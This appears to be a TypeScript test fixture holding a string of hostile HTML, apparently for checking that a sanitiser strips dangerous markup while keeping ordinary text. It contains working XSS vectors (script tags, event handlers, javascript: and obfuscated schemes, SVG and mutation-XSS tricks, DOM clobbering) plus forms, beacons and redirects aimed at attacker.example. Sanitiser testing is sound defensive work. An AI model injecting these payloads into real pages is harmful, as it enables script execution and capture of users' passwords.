/** What a program that shows foreign HTML must not let through. Whatever runs sets `window.hostile`. */
export const hostileHtml = `<section data-page="1"><h2>Our view</h2>
<p>The text of this document came from outside. This paragraph, <strong>this emphasis</strong> and
<a href="https://halden.example/method">this link</a> should be shown.</p>
<script>window.hostile = 'script'</script>
<img src="data:image/png;base64,bm90IGEgcGljdHVyZQ==" onerror="window.hostile = 'onerror'" alt="Chart">
<a href="javascript:window.hostile = 'javascript'">A link that runs</a>
<a href=" jav&#x09;ascript:window.hostile = 'entity'">A link with a tab in its scheme</a>
<a href="data:text/html,<script>window.hostile = 'data'</script>">A link to data</a>
<svg onload="window.hostile = 'svg'"><script>window.hostile = 'svg script'</script><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hostile='mutation'&gt;"></table></mtext></math>
<iframe src="https://attacker.example/" srcdoc="<script>parent.hostile = 'iframe'</script>"></iframe>
<object data="https://attacker.example/"></object><embed src="https://attacker.example/">
<form action="https://attacker.example/"><input name="password" autofocus onfocus="window.hostile = 'focus'"><button>Send</button></form>
<style>body, :host { display: none } * { background: url(https://attacker.example/style) }</style>
<link rel="stylesheet" href="https://attacker.example/sheet.css">
<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">
<p id="getElementById" name="body" style="position: fixed; inset: 0; background: url(https://attacker.example/p)">Clobbered</p>
<details open ontoggle="window.hostile = 'toggle'"><summary>Details</summary>Inside</details>
<video><source onerror="window.hostile = 'source'"></video>
</section></div></article></body></html>
<section data-page="2"><p>This paragraph follows closing tags that were never opened, and should be shown too.</p></section>`

/** The words of it that a search may find. */
export const hostileText = `Our view
The text of this document came from outside. This paragraph follows closing tags that were never opened.`
